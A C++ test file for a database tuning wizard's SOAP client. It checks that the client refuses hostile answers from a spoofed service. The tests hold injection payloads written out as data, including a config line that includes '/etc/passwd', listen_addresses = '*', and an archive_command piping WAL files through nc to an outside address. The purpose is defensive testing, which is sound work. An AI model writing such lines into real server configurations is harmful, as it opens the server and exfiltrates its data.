// The exchange against a responder that serves canned SOAP answers on loopback. It stands in
// for the tuning service only for answers the real service never gives (refusing verdicts,
// missing answers, wrong item counts, names and values the client must cope with) and to
// look at the exact items the client sends.
#include "installations/server.h"
#include "tests/support/temp_dir.h"
#include "tests/tuning/exchange_support.h"
#include "protocol/maker_constants.h"
#include "tuning/system_info.h"
#include "tuning/tuning_exchange.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <optional>
#include <thread>

namespace {

const std::string forum = supportForumAddress;
const std::string unexpectedError = "Unexpected Error!\nPlease visit " + forum + " for further assistance.";
const std::string accessError = "Error accessing WebService!\nMake sure that you are connected to the network.\n"
                                "If you are connected to the internet, please check the proxy settings.\n"
                                "Please visit " + forum + " for further assistance.";
const std::string listModified = "Quorvel variables list has been modified.\nPlease visit " + forum + " for further assistance";
const std::string memoryError = "Could not fetch the memory info for this system!\nPlease visit " + forum + " for further assistance";

class CannedExchange : public testing::Test
{
protected:
    CannedExchange()
        : certificate(MakeCertificate(folder.path(), "localhost")),
          responder([this](const RecordedRequest& request) { return service.Answer(request); }, certificate),
          target(responder.Url("localhost"), certificate.certificateFile)
    {
        service.pairs = CannedService::TablePairs();
        server.version = wxT("8.4");
        server.bitness = wxT("64");
        FreeExchangeId();
    }
    ~CannedExchange() override { FreeExchangeId(); }

    std::vector<std::string> Values() const
    {
        std::vector<std::string> values;
        for (const wxString& value : server.values)
            values.push_back(value.utf8_string());
        return values;
    }

    TempDir folder;
    Certificate certificate;
    CannedService service;
    CannedResponder responder;
    ServiceTarget target;
    Server server;
};

std::vector<std::string> TableValues() { return CannedService::TableValues(); }

} // namespace

TEST_F(CannedExchange, CompleteExchangeReportsEveryStepAndPrintsTheIdentifier)
{
    const ExchangeRun run = RunExchangeWith(server, 1);
    ASSERT_TRUE(run.completed) << run.standardError;
    EXPECT_TRUE(run.errors.empty());
    const std::vector<std::pair<int, std::string>> steps = {
        {1, "Setting required parameter to connect WebService ..."},
        {2, "Initializing WebService ..."},
        {3, "Checking for WebService ..."},
        {4, "Fetching information ..."},
        {5, "Updating information ..."},
        {6, "Done"},
    };
    EXPECT_EQ(run.steps, steps);
    EXPECT_EQ(Values(), TableValues());
    const std::vector<RecordedRequest> fetches = RequestsOf(responder, "getQuorvelInfo");
    ASSERT_EQ(fetches.size(), 1u);
    EXPECT_EQ(run.standardOutput, DecodedItems(fetches[0])[0]) << "the identifier, without a line end";
    EXPECT_EQ(run.standardOutput.size(), 36u);
}

TEST_F(CannedExchange, RequestsCarryTheMachineTheUsageAndTheVersion)
{
    ASSERT_TRUE(FetchMemoryInfo());
    struct Case
    {
        int usageIndex;
        const wxChar* version;
        const wxChar* bitness;
        std::string level;
        std::string versionSent;
    };
    const Case cases[] = {
        {0, wxT("8.4"), wxT("64"), "33", "8.4"},
        {1, wxT(""), wxT("32"), "66", "8.3"},
        {2, wxT("15.18"), wxT("64"), "100", "15.18"},
    };
    for (const Case& c : cases) {
        server.version = c.version;
        server.bitness = c.bitness;
        const std::size_t before = RequestsOf(responder, "validateUser").size();
        ASSERT_TRUE(RunExchangeWith(server, c.usageIndex).completed) << c.level;
        const std::vector<std::string> announced = DecodedItems(RequestsOf(responder, "validateUser").at(before));
        const std::vector<std::string> fetched = DecodedItems(RequestsOf(responder, "getQuorvelInfo").at(before));
        ASSERT_EQ(announced.size(), 19u);
        const std::string id = announced[0];
        EXPECT_EQ(id.size(), 36u);
        const std::vector<std::string> expectedAnnounced = {
            id, "tune", GetLocaleName(), "tune", "true", "false", c.versionSent, "Linux", announced[8], announced[9],
            "1", announced[11], memoryGigabytes, "0", memoryMegabytes, serviceUserId, "quintals", c.level, "oltp"};
        EXPECT_EQ(announced, expectedAnnounced) << "usage " << c.level;
        const std::vector<std::string> expectedFetched = {id, c.level, memoryMegabytes, memoryGigabytes, "oltp", "32",
                                                          wxString(c.bitness).utf8_string()};
        EXPECT_EQ(fetched, expectedFetched) << "usage " << c.level;
    }
    const std::vector<RecordedRequest> all = responder.Requests();
    EXPECT_EQ(all.size(), 9u);
    EXPECT_EQ(responder.Connections(), 9) << "every call on a new connection";
}

TEST_F(CannedExchange, AnnouncementVerdicts)
{
    struct Case
    {
        const char* description;
        std::optional<std::string> verdict;
        bool goesOn;
    };
    const Case cases[] = {
        {"0", std::string("0"), true},
        {"a text beginning with 0", std::string("0 accepted"), true},
        {"no text", std::nullopt, true},
        {"1", std::string("1"), false},
        {"2", std::string("2"), false},
        {"4", std::string("4"), false},
        {"x", std::string("x"), false},
    };
    for (const Case& c : cases) {
        FreeExchangeId();
        server.values = {};
        service.verdict = c.verdict;
        const std::size_t fetchesBefore = RequestsOf(responder, "getQuorvelInfo").size();
        const ExchangeRun refusedOrNot = RunExchangeWith(server, 0);
        EXPECT_EQ(refusedOrNot.completed, c.goesOn) << c.description;
        if (c.goesOn) {
            EXPECT_TRUE(refusedOrNot.errors.empty()) << c.description;
            EXPECT_EQ(refusedOrNot.steps.back(), std::make_pair(6, std::string("Done"))) << c.description;
            EXPECT_EQ(Values(), TableValues()) << c.description;
            continue;
        }
        EXPECT_EQ(refusedOrNot.errors, std::vector<std::string>{unexpectedError}) << c.description;
        EXPECT_EQ(refusedOrNot.steps.back().first, 3) << c.description;
        EXPECT_EQ(RequestsOf(responder, "getQuorvelInfo").size(), fetchesBefore) << c.description;
        EXPECT_EQ(Values(), std::vector<std::string>(tuningParameterCount)) << c.description;

        // The next attempt carries the same identifier in both requests.
        const std::string refusedId = DecodedItems(RequestsOf(responder, "validateUser").back())[0];
        service.verdict = std::string("0");
        const ExchangeRun retry = RunExchangeWith(server, 0);
        EXPECT_TRUE(retry.completed) << c.description;
        EXPECT_EQ(DecodedItems(RequestsOf(responder, "validateUser").back())[0], refusedId) << c.description;
        EXPECT_EQ(DecodedItems(RequestsOf(responder, "getQuorvelInfo").back())[0], refusedId) << c.description;
        EXPECT_EQ(retry.standardOutput, refusedId);
    }
}

TEST_F(CannedExchange, AFailedFetchKeepsThePageAndReleasesTheIdentifier)
{
    struct Case
    {
        const char* description;
        std::size_t count;
        bool fault;
        std::string message;
    };
    const Case cases[] = {
        {"16 items", 16, false, listModified},
        {"18 items", 18, false, listModified},
        {"no items", 0, false, listModified},
        {"a fault instead of values", 17, true, accessError},
    };
    for (const Case& c : cases) {
        for (std::size_t i = 0; i < tuningParameterCount; ++i)
            server.values[i] = wxT("old");
        service.pairs = CannedService::TablePairs();
        service.pairs.resize(std::min(c.count, service.pairs.size()));
        while (service.pairs.size() < c.count)
            service.pairs.emplace_back(ToHex("max_connections"), ToHex("1"));
        service.fetchFails = c.fault;
        const ExchangeRun run = RunExchangeWith(server, 2);
        EXPECT_FALSE(run.completed) << c.description;
        EXPECT_EQ(run.errors, std::vector<std::string>{c.message}) << c.description;
        EXPECT_EQ(Values(), std::vector<std::string>(tuningParameterCount, "old")) << c.description;
        EXPECT_NE(run.steps.back(), std::make_pair(6, std::string("Done"))) << c.description;
        if (c.fault) {
            EXPECT_NE(run.standardError.find("values unavailable"), std::string::npos) << run.standardError;
        }
        // Released: the next exchange announces itself under a new identifier.
        const std::string failedId = run.standardOutput;
        service.fetchFails = false;
        service.pairs = CannedService::TablePairs();
        const ExchangeRun next = RunExchangeWith(server, 2);
        EXPECT_TRUE(next.completed) << c.description;
        EXPECT_NE(next.standardOutput, failedId) << c.description;
    }
}

TEST_F(CannedExchange, ReturnedNamesAndValues)
{
    const auto pair = [](const std::string& name, const std::string& value) {
        return std::make_pair(ToHex(name), ToHex(value));
    };
    struct Case
    {
        const char* description;
        std::vector<std::pair<std::string, std::string>> pairs;
        std::vector<std::pair<std::size_t, std::string>> changed; // slot and value; all others keep "old"
        const char* version = "";                                  // empty: unknown
    };
    std::vector<std::pair<std::string, std::string>> reversed = CannedService::TablePairs();
    std::reverse(reversed.begin(), reversed.end());
    std::vector<std::pair<std::size_t, std::string>> everySlot;
    for (std::size_t i = 0; i < tuningParameterCount; ++i)
        everySlot.emplace_back(i, TableValues()[i]);
    ASSERT_TRUE(FetchMemoryInfo());
    const std::string machineMemory = std::string(memoryMegabytes) + "MB"; // what the exchange announces
    std::vector<std::pair<std::string, std::string>> padding(17, pair("no_such_parameter", "9"));
    const auto with = [&](std::vector<std::pair<std::string, std::string>> head) {
        head.insert(head.end(), padding.begin(), padding.begin() + (17 - head.size()));
        return head;
    };
    const Case cases[] = {
        {"the table in reverse order", reversed, everySlot},
        {"another letter case", with({pair("Shared_Buffers", "256MB"), pair("WORK_MEM", "4MB")}), {{1, "256MB"}, {2, "4MB"}}},
        {"the same name twice: the later value stands", with({pair("work_mem", "1MB"), pair("work_mem", "2MB")}), {{2, "2MB"}}},
        {"names outside the table change nothing", with({pair("shared_buffers", "1GB")}), {{1, "1GB"}}},
        {"an empty value empties the slot", with({pair("max_fsm_pages", ""), pair("autovacuum", "on")}), {{4, ""}, {10, "on"}}},
        {"the largest each parameter takes on any version with this machine's memory, either decimal",
         with({pair("effective_cache_size", machineMemory), pair("max_connections", "262121"),
               pair("autovacuum_naptime", "2147483s"), pair("wal_buffers", "2097144kB"), pair("work_mem", machineMemory),
               pair("random_page_cost", ".5"), pair("autovacuum_vacuum_scale_factor", "100.0"),
               pair("stats_row_level", "true")}),
         {{9, machineMemory}, {0, "262121"}, {11, "2147483s"}, {6, "2097144kB"}, {2, machineMemory}, {8, ".5"},
          {14, "100.0"}, {16, "true"}}},
        {"the smallest on any version; a bare 0 where the range starts there",
         with({pair("max_connections", "14"), pair("maintenance_work_mem", "1MB"), pair("autovacuum_naptime", "1000ms"),
               pair("autovacuum_vacuum_threshold", "0"), pair("autovacuum_analyze_scale_factor", "0")}),
         {{0, "14"}, {3, "1MB"}, {11, "1000ms"}, {12, "0"}, {15, "0"}}},
        {"from 12 a figure rounds to the nearest unit",
         with({pair("shared_buffers", "124kB"), pair("autovacuum_naptime", "999ms"), pair("max_connections", "4")}),
         {{1, "124kB"}, {11, "999ms"}, {0, "4"}}, "12.0"},
        {"17 takes maintenance_work_mem down to 64kB", with({pair("maintenance_work_mem", "64kB")}),
         {{3, "64kB"}}, "17.0"},
    };
    for (const Case& c : cases) {
        ASSERT_EQ(c.pairs.size(), 17u) << c.description;
        server.SetVersion(c.version);
        for (std::size_t i = 0; i < tuningParameterCount; ++i)
            server.values[i] = wxT("old");
        service.pairs = c.pairs;
        const ExchangeRun run = RunExchangeWith(server, 0);
        EXPECT_TRUE(run.completed) << c.description << ": " << run.standardError;
        std::vector<std::string> expected(tuningParameterCount, "old");
        for (const auto& [slot, value] : c.changed)
            expected[slot] = value;
        EXPECT_EQ(Values(), expected) << c.description;
    }
}

// Whoever answers as the service (a compromised service, an interceptor the client trusts, a
// wrong end point) must not be able to write lines into the configuration file or a value the
// server refuses: such an answer is refused whole and nothing of it is stored.
TEST_F(CannedExchange, HostileAnswersAreRefusedWhole)
{
    const auto pair = [](const std::string& name, const std::string& value) {
        return std::make_pair(ToHex(name), ToHex(value));
    };
    const auto withValue = [](std::size_t slot, const std::pair<std::string, std::string>& replacement) {
        std::vector<std::pair<std::string, std::string>> pairs = CannedService::TablePairs();
        pairs[slot] = replacement;
        return pairs;
    };
    ASSERT_TRUE(FetchMemoryInfo());
    const std::string fourMillionDigits(4000000, '9');
    const std::string emptyArray = "<item xsi:type=\"SOAP-ENC:Array\" SOAP-ENC:arrayType=\"xsd:string[2]\"></item>";
    std::string emptyArrays;
    for (std::size_t i = 0; i < tuningParameterCount; ++i)
        emptyArrays += emptyArray;
    struct Case
    {
        const char* description;
        std::vector<std::pair<std::string, std::string>> pairs;
        std::optional<std::string> rawValues;
        std::string decoderLine; // what the decoder says on standard error, when it complains
        const char* version = ""; // empty: unknown
        const char* bitness = "64";
    };
    const Case cases[] = {
        {"a line feed and an include", withValue(1, pair("shared_buffers", "1GB\ninclude '/etc/passwd'")), {}, ""},
        {"a line feed and two more settings",
         withValue(2, pair("work_mem", "4MB\nlisten_addresses = '*'\narchive_command = 'nc 203.0.113.9 25 < %p'")), {}, ""},
        {"a quote and a comment", withValue(10, pair("autovacuum", "on' # ")), {}, ""},
        {"hyphens as the text", withValue(0, pair("max_connections", "----")), {}, ""},
        {"four million digits", withValue(9, pair("effective_cache_size", fourMillionDigits)), {}, ""},
        {"a figure beyond the server's integers", withValue(12, pair("autovacuum_vacuum_threshold", "2147483648")), {}, ""},
        {"more memory than the machine announced", withValue(1, pair("shared_buffers", std::to_string(
                                                        std::stoull(memoryMegabytes) + 1) + "MB")), {}, ""},
        {"10 counts the WAL senders among the connections", withValue(0, pair("max_connections", "13")), {}, "", "10.5"},
        {"before 12 a figure is truncated to the unit: 127kB is 15 blocks",
         withValue(1, pair("shared_buffers", "127kB")), {}, "", "11.3"},
        {"before 17 maintenance_work_mem needs 1MB", withValue(3, pair("maintenance_work_mem", "1023kB")), {}, "", "16.1"},
        {"a 32-bit server holds less than 2GB of work_mem", withValue(2, pair("work_mem", "2GB")), {}, "", "15.4", "32"},
        {"a leading zero in a decimal", withValue(8, pair("random_page_cost", "04.0")), {}, ""},
        {"up to 8.3 fewer than two buffers per server process", withValue(1, pair("shared_buffers", "1600kB")), {}, "",
         "8.3"},
        {"up to 8.3 no more than 16 free-space pages per relation",
         withValue(5, pair("max_fsm_relations", "12801")), {}, "", "8.3"},
        {"a unit of another kind", withValue(11, pair("autovacuum_naptime", "1MB")), {}, ""},
        {"a unit after a space", withValue(1, pair("shared_buffers", "128 MB")), {}, ""},
        {"a signed figure", withValue(7, pair("checkpoint_segments", "-1")), {}, ""},
        {"a boolean in capitals", withValue(16, pair("stats_row_level", "ON")), {}, ""},
        {"a decimal with two points", withValue(8, pair("random_page_cost", "1.2.3")), {}, ""},
        {"a zero byte hides the rest", withValue(1, {ToHex("shared_buffers"), ToHex("1GB") + "00" + ToHex("include x")}), {}, ""},
        {"hyphens as the hex text (zero bytes)", withValue(0, {ToHex("max_connections"), "----"}), {}, ""},
        {"a value that does not decode", withValue(2, {ToHex("work_mem"), "4G"}), {}, "Invalid Hex String:4G\n"},
        {"a name that does not decode", withValue(10, {"XYZ", ToHex("on")}), {}, "Invalid Hex String:XYZ\n"},
        {"a long text that does not decode is cut short", withValue(2, {ToHex("work_mem"), fourMillionDigits + "G"}), {},
         "Invalid Hex String:" + fourMillionDigits.substr(0, 64) + "... (4000001 characters)\n"},
        {"17 empty two-item arrays", {}, emptyArrays, "Invalid Hex String:(null)\n"},
        {"17 names outside the table", std::vector<std::pair<std::string, std::string>>(17, pair("no_such_parameter", "1")), {}, ""},
        {"17 empty values", [&] {
             std::vector<std::pair<std::string, std::string>> pairs = CannedService::TablePairs();
             for (auto& [name, value] : pairs)
                 value.clear();
             return pairs;
         }(), {}, ""},
    };
    for (const Case& c : cases) {
        server.SetVersion(c.version);
        server.bitness = c.bitness;
        for (std::size_t i = 0; i < tuningParameterCount; ++i)
            server.values[i] = wxT("old");
        service.pairs = c.pairs;
        service.rawValues = c.rawValues;
        const ExchangeRun run = RunExchangeWith(server, 2);
        EXPECT_FALSE(run.completed) << c.description;
        EXPECT_EQ(run.errors, std::vector<std::string>{listModified}) << c.description;
        EXPECT_EQ(Values(), std::vector<std::string>(tuningParameterCount, "old")) << c.description;
        EXPECT_NE(run.steps.back(), std::make_pair(6, std::string("Done"))) << c.description;
        EXPECT_EQ(run.standardError, c.decoderLine) << c.description;
    }
    service.rawValues.reset();
}

namespace {

using Row = std::vector<std::string>;

const std::string extraValuesUnavailable = "The extra values could not be had from the tuning service; the 17 values apply.";

std::vector<std::pair<std::string, std::string>> Notices(const std::vector<ExtensionNotice>& notices)
{
    std::vector<std::pair<std::string, std::string>> texts;
    for (const ExtensionNotice& notice : notices)
        texts.emplace_back(notice.name.utf8_string(), notice.text.utf8_string());
    return texts;
}

std::vector<Row> Settings(const Server& server)
{
    std::vector<Row> settings;
    for (const ExtensionSetting& setting : server.extensionSettings)
        settings.push_back({setting.name.utf8_string(), setting.value.utf8_string(), setting.reason.utf8_string(),
                            setting.restart ? "restart" : ""});
    return settings;
}

} // namespace

// Old and new ends meet: a service without the extension gets today's three calls; one that
// offers it gets the fourth with the facts; one whose fourth call fails leaves the 17 in place
// and the user told.
TEST_F(CannedExchange, TheExtensionIsAskedOnlyOfAServiceThatOffersIt)
{
    server.SetVersion(wxT("15.4"));
    service.extensionRows = {{"jit", "off", "set", "compiling short queries costs more"},
                             {"max_worker_processes", "16", "set", "a worker on each processor"}};
    MachineFacts facts;
    facts.cpus = 16;
    facts.storage = Storage::ssd;
    facts.maxConnectionsNow = 300;
    std::uint64_t physical = 0;
    ASSERT_TRUE(QueryTotalMemory(physical));
    const std::string limit = std::to_string((physical >> 20) - 1); // the canned values still fit
    facts.memoryLimitMb = (physical >> 20) - 1;
    struct Case
    {
        const char* description;
        std::string testText;
        bool extensionFails;
        bool asked;
        std::size_t settings;
    };
    const Case cases[] = {
        {"a service without the extension", "ready", false, false, 0},
        {"a service that offers none", "ready ext=0", false, false, 0},
        {"a service with the extension", "Pelloran tuning service is running ext=1", false, true, 2},
        {"a newer service", "ready ext=2 more=3", false, true, 2},
        {"a service whose fourth call fails", "ready ext=1", true, true, 0},
    };
    for (const Case& c : cases) {
        service.testText = c.testText;
        service.extensionFails = c.extensionFails;
        server.values = {};
        server.extensionUnavailable = !c.extensionFails; // each exchange starts afresh
        server.advice = {{wxT("left"), wxT("over")}};
        const std::size_t requestsBefore = responder.Requests().size();
        const ExchangeRun run = RunExchangeWith(server, 1, facts);
        ASSERT_TRUE(run.completed) << c.description << ": " << run.standardError;
        EXPECT_TRUE(run.errors.empty()) << c.description;
        EXPECT_EQ(Values(), TableValues()) << c.description;
        EXPECT_EQ(responder.Requests().size() - requestsBefore, c.asked ? 4u : 3u) << c.description;
        EXPECT_EQ(Settings(server).size(), c.settings) << c.description;
        EXPECT_TRUE(server.advice.empty()) << c.description;
        EXPECT_EQ(server.extensionUnavailable, c.extensionFails) << c.description;
        const bool told = std::find(run.steps.begin(), run.steps.end(), std::make_pair(5, extraValuesUnavailable)) != run.steps.end();
        EXPECT_EQ(told, c.extensionFails) << c.description;
        EXPECT_EQ(run.steps.back(), std::make_pair(6, std::string("Done"))) << c.description;
        if (!c.asked)
            continue;
        const std::vector<std::string> fetched = DecodedItems(RequestsOf(responder, "getQuorvelInfo").back());
        const std::vector<std::string> extended = DecodedItems(RequestsOf(responder, "getTuningExtensions").back());
        const std::vector<std::string> expected = {fetched[0], "ext/1", "cpus=16", "storage=ssd", "memory_limit_mb=" + limit,
                                                   "max_connections_now=300"};
        EXPECT_EQ(extended, expected) << c.description;
        EXPECT_EQ(fetched[2], limit) << "the memory announced is the limit the server runs under";
    }
    EXPECT_EQ(Settings(server).size(), 0u);
    service.extensionFails = false;
    service.testText = "ready ext=1";
    ASSERT_TRUE(RunExchangeWith(server, 1, facts).completed);
    EXPECT_EQ(Settings(server), (std::vector<Row>{{"jit", "off", "compiling short queries costs more", ""},
                                                  {"max_worker_processes", "16", "a worker on each processor", "restart"}}));
    FetchMemoryInfo();
    EXPECT_NE(std::string(memoryMegabytes), limit) << "the limit is announced for its exchange only";
}

// Whoever answers as the service must not make the wizard write a name it does not know, a
// second line, or a value the server refuses: each such item is dropped alone, with the rule
// that dropped it, and the 17 and the sound items still apply.
TEST_F(CannedExchange, HostileExtensionItemsAreDroppedAlone)
{
    service.testText = "ready ext=1";
    const std::vector<Row> sound = {{"autovacuum_max_workers", "5", "set", "more tables vacuumed at once"},
                                    {"random_page_cost", "1.1", "refine", "solid-state storage"},
                                    {"huge_pages", "", "advice", "reserve 1100 huge pages (vm.nr_hugepages)"}};
    const std::string notWritten = "Pelloran does not write this parameter.";
    const std::string refusedValue = "The server does not take this value.";
    struct Case
    {
        Row item;
        std::string rule;
        const char* version = "15.4";
        std::vector<std::pair<std::size_t, std::string>> valuesChanged = {}; // of the 17 the service sends
    };
    const Case cases[] = {
        {{"wal_level", "minimal", "set", "r"}, notWritten},
        {{"max_wal_senders", "0", "set", "r"}, notWritten},
        {{"listen_addresses", "*", "set", "r"}, notWritten},
        {{"shared_preload_libraries", "evil", "set", "r"}, notWritten},
        {{"archive_command", "nc 203.0.113.9 25 < %p", "set", "r"}, notWritten},
        {{"restore_command", "cp /x %p", "set", "r"}, notWritten},
        {{"ssl", "off", "set", "r"}, notWritten},
        {{"ssl_cert_file", "/tmp/x", "set", "r"}, notWritten},
        {{"include", "/etc/passwd", "set", "r"}, notWritten},
        {{"include_dir", "/tmp", "set", "r"}, notWritten},
        {{"data_directory", "/tmp", "set", "r"}, notWritten},
        {{"hba_file", "/tmp/hba", "set", "r"}, notWritten},
        {{"io_method", "worker", "set", "r"}, notWritten},
        {{"huge_pages", "on", "set", "r"}, notWritten},
        {{"no_such_parameter", "1", "set", "r"}, notWritten},
        {{"max_wal_size", "4GB\nlisten_addresses = '*'", "set", "r"}, refusedValue},
        {{"max_wal_size", "4GB", "write", "r"}, "Its kind is none of set, refine and advice."},
        {{"max_wal_size", "4GB", "set", "fewer checkpoints\nssl = off"},
         "Its reason is not one line of at most 160 printable characters without #."},
        {{"max_wal_size", "4GB", "set", "fewer # checkpoints"},
         "Its reason is not one line of at most 160 printable characters without #."},
        {{"max_wal_size", "4GB", "set", std::string(161, 'r')},
         "Its reason is not one line of at most 160 printable characters without #."},
        {{"max_wal_size", "4GB", "set"}, "It does not hold a name, a value, a kind and a reason."},
        {{"huge_pages_advice", "on", "advice", "r"}, "Advice carries no value."},
        {{"wal_compression", "lz4", "set", "r"}, refusedValue, "14.1"},
        {{"max_parallel_workers", "2000", "set", "r"}, refusedValue},
        {{"checkpoint_completion_target", "0.9", "set", "r"}, "The server's version does not have it."},
        {{"shared_buffers", "1GB", "set", "r"}, "One of the 17 values is changed only by a refine."},
        {{"max_fsm_pages", "20000", "refine", "r"}, "It refines a value the service did not send.", "15.4", {{4, ""}}},
        {{"io_workers", "4", "refine", "r"}, "Only one of the 17 values can be refined.", "18.1"},
        {{"max_connections", "12", "refine", "r"}, refusedValue, "10.5"},
        {{"autovacuum_max_workers", "4", "set", "r"}, "It is given more than once."},
        {{"max_parallel_workers", "12", "set", "r"}, "It exceeds max_worker_processes (8)."},
        // shared_buffers has room for 101 connections, not for 1000
        {{"max_connections", "1000", "refine", "r"}, "It does not go with the other values for this server.", "8.3",
         {{1, "8MB"}}},
    };
    std::vector<std::string> refined = TableValues();
    refined[randomPageCostIndex] = "1.1";
    for (const Case& c : cases) {
        const std::string description = c.item[0] + " " + c.rule;
        server.SetVersion(c.version);
        service.extensionRows = sound;
        service.extensionRows.push_back(c.item);
        service.pairs = CannedService::TablePairs();
        std::vector<std::string> expected = refined;
        for (const auto& [slot, value] : c.valuesChanged) {
            service.pairs[slot].second = ToHex(value);
            expected[slot] = value;
        }
        const ExchangeRun run = RunExchangeWith(server, 1);
        ASSERT_TRUE(run.completed) << description << ": " << run.standardError;
        EXPECT_FALSE(server.extensionUnavailable) << description;
        EXPECT_EQ(Values(), expected) << description;
        EXPECT_EQ(server.reasons[randomPageCostIndex], wxT("solid-state storage")) << description;
        EXPECT_EQ(Settings(server), (std::vector<Row>{{"autovacuum_max_workers", "5", "more tables vacuumed at once", "restart"}}))
            << description;
        EXPECT_EQ(Notices(server.advice), (std::vector<std::pair<std::string, std::string>>{
                                              {"huge_pages", "reserve 1100 huge pages (vm.nr_hugepages)"}}))
            << description;
        EXPECT_EQ(Notices(server.dropped), (std::vector<std::pair<std::string, std::string>>{{c.item[0], c.rule}}))
            << description;
    }

    // Items beyond 64 are not read: the first 64 still apply.
    server.SetVersion(wxT("15.4"));
    service.extensionRows = sound;
    for (int i = 0; i < 62; ++i)
        service.extensionRows.push_back({"advice_" + std::to_string(i), "", "advice", "r"});
    ASSERT_TRUE(RunExchangeWith(server, 1).completed);
    EXPECT_EQ(server.advice.size(), 62u);
    EXPECT_EQ(Settings(server).size(), 1u);
    EXPECT_EQ(Notices(server.dropped), (std::vector<std::pair<std::string, std::string>>{
                                           {"", "The answer held 65 items; those beyond the first 64 were not read."}}));
}

TEST_F(CannedExchange, UnavailableMemoryFiguresStopTheExchange)
{
    SetTotalMemorySource([](std::uint64_t&) { return false; });
    const ExchangeRun run = RunExchangeWith(server, 0);
    SetTotalMemorySource({});
    EXPECT_FALSE(run.completed);
    EXPECT_EQ(run.errors, (std::vector<std::string>{memoryError, memoryError}));
    EXPECT_TRUE(RequestsOf(responder, "validateUser").empty()) << "nothing is announced without the figures";
    EXPECT_TRUE(RequestsOf(responder, "getQuorvelInfo").empty());
    EXPECT_EQ(Values(), std::vector<std::string>(tuningParameterCount));
}

TEST_F(CannedExchange, ProxySettings)
{
    TinyProxy tinyproxy(folder.path());
    const std::string connect = "CONNECT localhost:" + std::to_string(responder.port());
    unsetenv("https_proxy");
    unsetenv("HTTPS_PROXY");

    // A host without a port: no proxy at all.
    EXPECT_TRUE(RunExchangeWith(server, 0, wxT("127.0.0.1"), wxT("")).completed);
    EXPECT_EQ(tinyproxy.Log().find(": CONNECT "), std::string::npos) << tinyproxy.Log();

    // Host and port: each of the three calls goes through the proxy's CONNECT.
    const ExchangeRun run = RunExchangeWith(server, 0, wxT("127.0.0.1"), wxString::Format(wxT("%d"), tinyproxy.port()));
    EXPECT_TRUE(run.completed) << run.standardError;
    const std::string log = tinyproxy.Log();
    int connects = 0;
    for (std::size_t at = log.find(connect); at != std::string::npos; at = log.find(connect, at + 1))
        ++connects;
    EXPECT_EQ(connects, 3) << log;

    // A port with trailing text is read by its leading digits.
    EXPECT_TRUE(RunExchangeWith(server, 0, wxT("127.0.0.1"), wxString::Format(wxT("%d tinyproxy"), tinyproxy.port())).completed);
}

TEST_F(CannedExchange, ExchangesLeaveNoDescriptorsBehind)
{
    // Sockets only: the toolkit opens files of its own now and then (fonts, settings), which
    // an exchange has nothing to do with. The responder's thread in this process closes its
    // side of a connection a moment after the client has gone; count once it has.
    const auto openDescriptors = [this]() {
        for (int waited = 0; waited < 50 && responder.OpenConnections() != 0; ++waited)
            std::this_thread::sleep_for(std::chrono::milliseconds(100));
        int count = 0;
        for (const auto& entry : std::filesystem::directory_iterator("/proc/self/fd")) {
            std::error_code unreadable;
            const std::string target = std::filesystem::read_symlink(entry.path(), unreadable).string();
            if (target.rfind("socket:", 0) == 0)
                ++count;
        }
        return count;
    };
    ASSERT_TRUE(RunExchangeWith(server, 0).completed); // libraries set up once
    const int before = openDescriptors();
    for (int i = 0; i < 10; ++i)
        ASSERT_TRUE(RunExchangeWith(server, i % 3).completed);
    service.fetchFails = true;
    EXPECT_FALSE(RunExchangeWith(server, 0).completed);
    EXPECT_EQ(openDescriptors(), before);
}
